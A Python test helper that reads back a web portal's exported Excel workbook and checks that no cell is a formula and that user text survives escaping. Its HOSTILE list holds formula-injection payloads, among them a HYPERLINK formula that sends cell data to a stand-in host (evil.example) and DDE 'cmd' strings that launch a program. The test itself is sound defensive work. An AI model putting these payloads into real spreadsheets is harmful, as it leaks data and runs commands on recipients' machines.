"""Reading back a workbook the portal wrote: every cell, and whether any is a formula."""

import io

from openpyxl import load_workbook

from portal.xlsx import restore

# Text a user may type that a spreadsheet would otherwise run or misread.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def workbook_cells(content: bytes) -> list:
    """Every non-empty cell of every sheet."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]  # fmt: skip


def assert_no_formula_and_text_kept(content: bytes, texts) -> None:
    """No cell is a formula, and each of `texts` reads back (through `restore`) as written."""
    cells = workbook_cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {restore(c.value) for c in cells if c.data_type == "s"}
    missing = [t for t in texts if not any(t in v for v in values)]
    assert missing == []
